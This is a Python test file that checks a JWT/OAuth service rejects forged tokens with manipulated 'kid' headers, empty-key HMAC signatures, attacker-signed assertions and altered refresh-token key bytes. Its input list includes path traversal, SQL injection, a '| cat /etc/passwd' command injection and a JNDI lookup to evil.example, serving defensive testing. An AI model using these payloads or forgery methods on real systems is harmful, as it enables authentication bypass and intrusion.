"""Key identifiers: `kid` leads the verifier to a key of the attacker's, to none, or to a file (RFC 8725 §3.10)."""

from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key

from tests.attacks.attacker import nothing_changes, part_of, parts_of, with_hmac
from tests.endpoints.assertions import SIGNING, assertion, ec, with_assertion
from tests.service import Service, octets_of, refusal, rsa_key, tokens

THEIRS = generate_private_key(public_exponent=65537, key_size=2048)

ELSEWHERE: list[Any] = [
    "",
    " test-key",
    "TEST-KEY",
    "test-key\x00",
    "test-key,other",
    "../../../../dev/null",
    "/dev/null",
    "file:///proc/sys/kernel/randomize_va_space",
    "https://evil.example/jwks.json",
    "' OR '1'='1",
    "' UNION SELECT 'secret' --",
    "| cat /etc/passwd",
    "${jndi:ldap://evil.example}",
    "__proto__",
    "x" * 4000,
    None,
    True,
    0,
    1.5,
    [],
    ["test-key"],
    {},
    {"test-key": "test-key"},
]


def with_kid(claims: Any, kid: Any, key: Any) -> str:
    """A JWT whose header PyJWT would not make."""
    signed = f"{part_of({'alg': 'RS256', 'typ': 'JWT', 'kid': kid})}.{part_of(claims)}"
    signature = jwt.algorithms.RSAAlgorithm(jwt.algorithms.RSAAlgorithm.SHA256).sign(signed.encode(), key)
    return f"{signed}.{jwt.utils.base64url_encode(signature).decode()}"


def test_no_name_of_a_key_leads_elsewhere(service: Service) -> None:
    """RFC 9700 §4.6, RFC 6819 §4.6.3: paths, queries, lists; under none of them is there a key, be it signed well."""
    issued = service.login_tokens()
    token = issued["access_token"]
    _, claims = parts_of(token)
    with nothing_changes(service):
        for kid in ELSEWHERE:
            for key in (THEIRS, rsa_key()):
                forged = with_kid(claims, kid, key)
                answer = service.send("GET", "/userinfo", headers={"authorization": f"Bearer {forged}"})
                assert answer.status == 401, kid
        for kid in ("/dev/null", "", None):
            forged = with_hmac({"alg": "HS256", "typ": "JWT", "kid": kid}, claims, b"")
            assert service.send("GET", "/userinfo", headers={"authorization": f"Bearer {forged}"}).status == 401

    good = with_kid(claims, "test-key", rsa_key())
    assert service.send("GET", "/userinfo", headers={"authorization": f"Bearer {good}"}).status == 200


def test_a_clients_assertion_with_an_odd_name_is_judged_by_its_signature_alone(service: Service) -> None:
    """RFC 6819 §4.3.3, RFC 9700 §2.5: a client names its keys as it likes; a stranger's key has no good name."""
    service.declare(SIGNING)
    claims = parts_of(assertion())[1]
    for kid in ELSEWHERE:
        unkeyed = with_hmac({"alg": "RS256", "typ": "JWT", "kid": kid}, claims, b"")
        for text in (unkeyed, with_kid(claims, kid, THEIRS)):
            assert service.send("POST", "/oauth/revoke", with_assertion({"token": "any"}, text)).status == 401, kid
    assert service.items("SingleUseTable") == [], "nor is the honest client's jti used up"
    honest = with_assertion({"token": "any"}, assertion())
    assert service.send("POST", "/oauth/revoke", honest).status == 200


def test_a_key_answers_to_its_own_name_alone(service: Service) -> None:
    """RFC 6819 §4.3.3: the attacker holds one key of a client, which was registered by name, and borrows another's."""
    service.declare(SIGNING)
    for kid, status in (("another", 401), ("curved", 200)):
        text = assertion(key=ec(), algorithm="ES256", headers={"kid": kid}, jti=kid)
        assert service.send("POST", "/oauth/revoke", with_assertion({"token": "any"}, text)).status == status


def test_no_key_id_in_a_refresh_token_makes_it_good(service: Service) -> None:
    """RFC 6819 §4.5.3, RFC 9700 §4.14: the byte that names the token key, through all its values."""
    token = service.login_tokens()["refresh_token"]
    octets = octets_of(token)
    with nothing_changes(service):
        for key_id in range(256):
            if key_id == octets[1]:
                continue
            forged = bytes([octets[0], key_id]) + octets[2:]
            encoded = "hrt_" + jwt.utils.base64url_encode(forged).decode()
            assert refusal(service.refresh(encoded)) == (400, "invalid_grant")
    assert tokens(service.refresh(token))
